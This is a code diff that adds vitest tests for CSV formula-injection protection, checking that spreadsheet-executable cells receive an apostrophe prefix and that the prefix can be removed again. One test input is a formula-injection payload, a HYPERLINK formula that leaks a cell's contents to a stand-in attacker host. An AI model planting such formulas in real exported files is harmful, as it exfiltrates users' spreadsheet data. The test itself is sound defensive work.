@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { parseCsv, stringifyCsv } from '../../../shared/domain/csv';
+import { neutraliseFormula, parseCsv, restoreFormula, stringifyCsv } from '../../../shared/domain/csv';
 
 const parsed = (text: string) => {
   const result = parseCsv(text);
@@ -58,5 +58,24 @@ describe('stringifyCsv', () => {
 
   it('still quotes a cell that needs it even when the flag says unquoted', () => {
     expect(stringifyCsv([{ cells: ['a,b'], quoted: [false] }], { trailingNewline: false })).toBe('"a,b"');
+  });
+});
+
+describe('formula neutralisation', () => {
+  const values = ['=1+1', '+1', '-5', '@SUM(A1)', '\tx', '\rx', "'=x", "''=x", "'hello", "'", '', 'plain', '5-3', "it's", "'\t"];
+
+  it('prefixes an apostrophe exactly to values a spreadsheet would run, and to ones already looking neutralised', () => {
+    expect(values.map(neutraliseFormula)).toEqual(["'=1+1", "'+1", "'-5", "'@SUM(A1)", "'\tx", "'\rx", "''=x", "'''=x", "'hello", "'", '', 'plain', '5-3', "it's", "''\t"]);
+  });
+
+  it('is undone exactly by restoreFormula, for every value', () => {
+    for (const value of values) expect(restoreFormula(neutraliseFormula(value))).toBe(value);
+  });
+
+  it('is applied to every cell stringifyCsv writes, quoted or not', () => {
+    expect(stringifyCsv([['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '-2', 'ok']])).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",'-2,ok\r\n`,
+    );
+    expect(stringifyCsv([['@x']], { quote: 'all' })).toBe(`"'@x"\r\n`);
   });
 });
